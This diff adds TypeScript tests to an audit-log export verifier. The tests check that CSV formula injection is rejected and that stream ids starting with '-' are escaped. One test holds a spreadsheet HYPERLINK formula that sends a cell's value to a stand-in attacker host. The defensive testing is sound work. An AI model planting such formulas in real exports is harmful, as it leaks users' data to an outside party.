@@ -274,6 +274,52 @@ describe('a tampered export is rejected at the right place', () => {
     assert.equal((await verify(files['all-csv'] as string)).ok, true)
   })
 
+  test('csv: no live formula passes — the stream must be a stream id named by its signed origin, header and trailer rows hold only kind and record', async () => {
+    const formula = '=HYPERLINK("https://attacker.example/?leak="&A1,"Click")'
+    const rename = (to: string): string[][] => {
+      const r = rows('deny-csv')
+      for (const row of r.slice(1)) {
+        if (row[0] === 'header') {
+          const h = JSON.parse(row[col('record')] as string) as { streams: Array<{ stream: string }> }
+          ;(h.streams[0] as { stream: string }).stream = to
+          row[col('record')] = JSON.stringify(h)
+        } else if (row[0] === 'trailer') {
+          const t = JSON.parse(row[col('record')] as string) as { streams: Record<string, number> }
+          t.streams = { [to]: t.streams.w1 as number, w2: t.streams.w2 as number }
+          row[col('record')] = JSON.stringify(t)
+        } else if (row[col('stream')] === 'w1') {
+          row[col('stream')] = to
+        }
+      }
+      return r
+    }
+    await rejects(writeRows(rename(formula)), 'CHECKPOINT_MALFORMED', 2)
+    // a valid stream id that is not the one the signed origin names
+    await rejects(writeRows(rename('w3')), 'CHECKPOINT_ORIGIN_MISMATCH', 2, { stream: 'w3' })
+    const h = rows('deny-csv')
+    ;(h[1] as string[])[col('decision_id')] = '=1+1'
+    await rejects(writeRows(h), 'EXPORT_MALFORMED', 2)
+    const t = rows('deny-csv')
+    ;(t[t.length - 1] as string[])[col('path')] = formula
+    await rejects(writeRows(t), 'EXPORT_MALFORMED', t.length)
+  })
+
+  test('csv: a stream id starting with - is written escaped, verifies, and its unescaped (live) form does not', async (t) => {
+    const own = tempAuditDir()
+    t.after(own.cleanup)
+    const log = await AuditLog.open(logOptions(own.dir, { stream: '-w', durability: 'sync', checkpoint: { everyEvents: 7, everyMs: 600_000, keyFile: join(dir, 'key.pem') } }))
+    for (let i = 0; i < 5; i++) await log.append(decisionEvent(i, Date.parse('2026-11-30T10:00:00Z')))
+    await log.close()
+    const file = join(own.dir, 'minus.csv')
+    await pipeline((await exportReadable(own.dir, { filters: {}, format: 'csv' })).readable, createWriteStream(file))
+    const r = parseCsv(readFileSync(file)) as string[][]
+    assert.equal((r[2] as string[])[col('stream')], "'-w")
+    const ok = await verify(file)
+    assert.equal(ok.ok, true, JSON.stringify(ok.problem))
+    ;(r[2] as string[])[col('stream')] = '-w'
+    await rejects(writeRows(r), 'EVENT_COLUMN_MISMATCH', 3, { stream: '-w', index: 0 })
+  })
+
   test('the CLI names the problem, its line and position, and exits 1', async () => {
     const items = lines('deny-ndjson')
     const ev = items[3] as Item
